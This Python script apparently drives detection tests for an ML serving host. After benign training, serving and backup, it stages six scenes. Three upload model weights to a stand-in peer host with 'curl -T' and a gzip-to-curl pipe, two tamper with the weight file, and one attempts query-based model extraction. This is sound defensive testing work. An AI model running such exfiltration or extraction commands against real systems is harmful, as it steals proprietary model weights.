"""What is played: ordinary work first, then six thefts and tamperings."""

import json
import os
import subprocess
from dataclasses import dataclass
from typing import Callable

import stage as stages

SERVER_PORT = 8077
BENIGN_CLIENTS, BENIGN_QUERIES = 4, 40
EXTRACTION_QUERIES = 3000
TEMPLATE_RUNG = 2000  # requests; from here on the extraction detector judges their shape
STOLEN = "Model weights leave the host"
FIRST_RUNG = 0.01  # of the model: the egress ladder's


def on_asset(alert, path):
    return alert.get("asset", {}).get("path") == path


def destination_of(alert):
    return alert.get("destination", {}).get("address")


def measured(alert):
    return alert.get("measure", {}).get("value", 0)


@dataclass
class Scene:
    name: str
    play: Callable     # () -> a function from the alert to the time of its cause
    rule: str          # that must alert
    about: Callable    # alert -> whether it is about this scene

    def expects(self, alert):
        return alert["rule"] == self.rule and self.about(alert)


class Play:
    def __init__(self, stage):
        self.stage = stage
        self.other_host = stages.OtherHost(stage)
        self.model = stage.path("models", "model.pt")
        self.backup = stage.path("backup", "model.pt")

    # --- ordinary work ---

    def ordinary_work(self):
        """Yields a line about each part when it is done."""
        stage = self.stage
        stage.play("trainer", *stage.actor("trainer"), stage.path("models"))
        megabytes = os.path.getsize(self.model) / (1 << 20)
        yield f"a PyTorch job trained a model of {megabytes:.0f} MiB and saved two checkpoints, rotating"
        server = stage.start("server", *stage.actor("server"), self.model, str(SERVER_PORT), stdout=subprocess.PIPE)
        if "serving" not in server.stdout.readline():
            raise RuntimeError("the model server did not start")
        yield f"a Python server serves it on port {SERVER_PORT}"
        yield f"{BENIGN_CLIENTS} clients asked {self._benign_clients()} questions"
        stage.play("backup", "cp", self.model, self.backup)
        yield "the approved backup copied it"

    def _client(self, *options):
        return [*self.stage.actor("client"), str(SERVER_PORT), *options]

    def _benign_clients(self):
        clients = [self.stage.start(f"client-{number}", *self._client(str(BENIGN_QUERIES), "--key", f"sk-user-{number}",
                                                                      "--pause", "0.05"), stdout=subprocess.PIPE)
                   for number in range(BENIGN_CLIENTS)]
        answered = sum(json.loads(client.communicate(timeout=60)[0])["answered"] for client in clients)
        if answered != BENIGN_CLIENTS * BENIGN_QUERIES:
            raise RuntimeError(f"only {answered} questions were answered")
        return answered

    # --- thefts and tamperings ---

    def scenes(self):
        url = self.other_host.url
        copy = self.stage.path("scratch", "notes.bin")
        own = self.stage.path("scratch", "own.pt")
        pipeline = f"cp {self.model} {copy} && gzip -c {copy} | curl -sS -T - {url('/pipeline')}"
        return [
            Scene("upload with curl -T",
                  lambda: self._upload("/upload", "curl", "-sS", "--limit-rate", "20M", "-T", self.model,
                                       url("/upload")), STOLEN, self._is_upload),
            Scene("cp, then gzip -c | curl",
                  lambda: self._upload("/pipeline", "sh", "-c", pipeline), STOLEN, self._is_upload),
            Scene("the backup's copy sent",
                  lambda: self._upload("/backup", "curl", "-sS", "-T", self.backup, url("/backup")),
                  STOLEN, self._is_upload),
            Scene("weights flipped in place",
                  lambda: self._tamper("flip", self.model), "Weights changed in place", self._is_tampering),
            Scene("a file renamed over them",
                  lambda: self._tamper("replace", self.model, own), "Weights replaced", self._is_tampering),
            Scene("3 000 questions, one template", self._extract, "Model is being extracted by queries",
                  lambda alert: str(alert.get("client", "")).startswith("key:")),
        ]

    @staticmethod
    def _is_upload(alert):
        return destination_of(alert) == stages.PEER_ADDRESS

    def _is_tampering(self, alert):
        return on_asset(alert, self.model) and not destination_of(alert)

    def _upload(self, path, *command):
        size = os.path.getsize(self.model)
        self.stage.play("thief-" + path.strip("/"), *command)
        sent = self.other_host.time_of(path, int(size * FIRST_RUNG))
        return lambda alert: sent

    def _tamper(self, how, *paths):
        changed = float(self.stage.play("stranger-" + how, *self.stage.actor("tamper"), how, *paths))
        return lambda alert: changed

    def _extract(self):
        options = (str(EXTRACTION_QUERIES), "--key", "sk-extractor", "--template")
        sent = json.loads(self.stage.play("extractor", *self._client(*options)))["sent"]
        return lambda alert: sent[TEMPLATE_RUNG - 1]
